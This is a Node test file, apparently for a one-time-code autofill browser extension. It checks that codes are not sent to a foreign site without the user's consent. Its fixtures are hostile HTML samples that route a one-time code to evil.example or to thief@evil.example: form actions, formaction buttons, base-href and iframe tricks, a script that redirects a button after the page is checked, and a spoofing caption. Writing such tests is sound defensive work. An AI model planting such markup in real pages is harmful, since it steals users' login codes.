// Markup that a stranger put into a page cannot send the code anywhere: neither automatically, nor by
// pressing a button, nor, on request, before the user has seen the target.

import assert from 'node:assert/strict';
import { test } from 'node:test';
import { says, textOf, until } from './browser.mjs';
import { grantedExtension } from './copies.mjs';
import { CODE, openFilling } from './isolated.mjs';
import { link, useStage } from './stage.mjs';

const stage = await useStage({ extension: grantedExtension() });

const FIELD = '<label>One-time code <input id="code" name="otp"></label>';
const EVIL = 'https://evil.example';

/** @type {Record<string, string>} */
const AWAY = {
  'the form itself': `<form action="${EVIL}/take">${FIELD}<button>Verify</button></form>`,
  'its button': `<form>${FIELD}<button formaction="${EVIL}/take">Verify</button></form>`,
  'its input for a picture': `<form>${FIELD}<input type="image" alt="Verify" formaction="${EVIL}/"></form>`,
  'a button outside the form': `<form id="f">${FIELD}</form><button form="f" formaction="${EVIL}/">Verify</button>`,
  'a form elsewhere that the field belongs to': `<form id="f" action="${EVIL}/"></form><label>One-time code <input id="code" form="f"></label><button form="f">Verify</button>`,
  'the base of the page': `<base href="${EVIL}/"><form action="take">${FIELD}<button>Verify</button></form>`,
  'a frame as target': `<iframe name="sink" hidden></iframe><form target="sink" action="${EVIL}/">${FIELD}<button>Verify</button></form>`,
  'a field called action': `<form action="${EVIL}/"><input type="hidden" name="action" value="/">${FIELD}<button>Verify</button></form>`,
  'a letter': `<form action="mailto:thief@evil.example">${FIELD}<button>Verify</button></form>`,
  'a button behind a hundred harmless ones': `<form>${FIELD}${'<button hidden>Verify</button>'.repeat(100)}<button hidden formaction="${EVIL}/take">Verify</button></form>`,
  'a button behind all that is looked at of a page': `<form>${FIELD}${'<i></i>'.repeat(30_000)}<button formaction="${EVIL}/">Verify</button></form>`,
  'a page of data': `<form action="data:text/html,x">${FIELD}<button>Verify</button></form>`,
};

test('a form that sends elsewhere is not filled automatically, never pressed, and asked about first', async () => {
  const filling = await openFilling(stage);
  for (const [name, html] of Object.entries(AWAY)) {
    const place = /mailto:|data:/.exec(html)?.[0] ?? EVIL;
    await filling.show(html);
    const unasked = await filling.fill({ unasked: true }, { presses: true });
    assert.deepEqual(
      [unasked.failure, await filling.held().then(has)],
      ['field-missing', false],
      name,
    );
    const asked = await filling.fill({}, { presses: true });
    assert.deepEqual([asked.confirm, await filling.held().then(has)], [[place], false], name);
    // Consent to one site does not apply to another, and never to pressing a button.
    const other = await filling.fill({ agreed: ['https://other.example'] }, { presses: true });
    assert.deepEqual(other.confirm, [place], name);
    const agreed = await filling.fill({ agreed: [place] }, { presses: true });
    assert.deepEqual([agreed.took, agreed.pressed], [1, undefined], name);
    assert.ok(stage.page.url().startsWith(stage.origin('portal')), name);
  }
  await filling.helper.close();
});

test('a form with more sites than are recorded counts as one that sends elsewhere', async () => {
  const filling = await openFilling(stage);
  const own = Array.from({ length: 100 }, (_, at) => `${stage.origin(`x${at}.portal`)}/`);
  const buttons = [...own, EVIL].map((place) => `<button hidden formaction="${place}">Go</button>`);
  await filling.show(`<form>${FIELD}${buttons.join('')}</form>`);
  assert.equal((await filling.fill({ unasked: true })).failure, 'field-missing');
  assert.deepEqual((await filling.fill()).confirm, ['unknown:']);
  assert.equal(has(await filling.held()), false);
  await filling.helper.close();
});

const has = (/** @type {string} */ held) => held.includes(CODE);

test('a form that sends to the page’s own site is filled automatically and its button pressed', async () => {
  const filling = await openFilling(stage);
  for (const [name, head] of Object.entries({
    'no action': '<form onsubmit="return false">',
    'an empty one': '<form action="" onsubmit="return false">',
    'a path': '<form action="/login" onsubmit="return false">',
    'a script of the page': '<form action="javascript:void(0)">',
    'its own origin': `<form action="${stage.origin('portal')}/x" onsubmit="return false">`,
  })) {
    await filling.show(`${head}${FIELD}<button>Verify</button></form>`);
    const { took, pressed } = await filling.fill({ unasked: true }, { presses: true });
    assert.deepEqual([took, pressed], [1, 'Verify'], name);
  }
  await filling.helper.close();
});

test('of two forms, the one that sends to its own site is filled', async () => {
  const filling = await openFilling(stage);
  await filling.show(
    `<form action="${EVIL}">${FIELD.replace('<input id="code"', '<input autocomplete="one-time-code"')}</form><form>${FIELD}</form>`,
  );
  assert.equal((await filling.fill()).took, 1);
  assert.equal(await stage.page.$eval('#code', (one) => /** @type {any} */ (one).value), CODE);
  await filling.helper.close();
});

test('the card names both sites, and types only after confirmation', async () => {
  await stage.add(link('IATA', 'JBSWY3DPEHPK3PXP'), stage.origin('portal'));
  await stage.show('portal', `<form action="${EVIL}/take">${FIELD}<button>Verify</button></form>`);
  const popup = await stage.popup();
  await popup.click('.row [data-use]');
  await says(popup, '[data-frame]', /sends to another site/);
  const said = await textOf(popup, '[data-frame]');
  for (const origin of [stage.origin('portal'), EVIL]) assert.ok(said.includes(origin), said);
  const typed = () => stage.page.$eval('#code', (one) => /** @type {any} */ (one).value);
  assert.equal(await typed(), '');
  await popup.click('[data-confirm]');
  await until(async () => /^\d{6}$/.test(await typed()), 40_000);
  // The consent was for this time only: nothing of it is stored.
  await stage.page.reload();
  const again = await stage.popup();
  await again.click('.row [data-use]');
  await again.waitForSelector('[data-sends-to]');
});

test('a page that redirects its form or button after the look gets nothing pressed', async () => {
  const filling = await openFilling(stage);
  const turn = `document.forms[0].elements.otp.oninput = (event) => { event.target.form.lastElementChild.formAction = '${EVIL}'; }`;
  await filling.show(
    `<form onsubmit="return false">${FIELD}<button>Verify</button></form><script>${turn}</script>`,
  );
  const { took, pressed } = await filling.fill({ unasked: true }, { presses: true });
  assert.deepEqual([took, pressed], [1, undefined]);
  await filling.helper.close();
});

test('a button’s caption reaches the popup short and plain', async () => {
  const filling = await openFilling(stage);
  const text = `Verify\u202e\u200b ${'and continue to the portal '.repeat(4)}`;
  await filling.show(`<form onsubmit="return false">${FIELD}<button>${text}</button></form>`);
  const { pressed } = await filling.fill({}, { presses: true });
  assert.ok(pressed.startsWith('Verify and continue to') && pressed.length <= 41, pressed);
  await filling.helper.close();
});
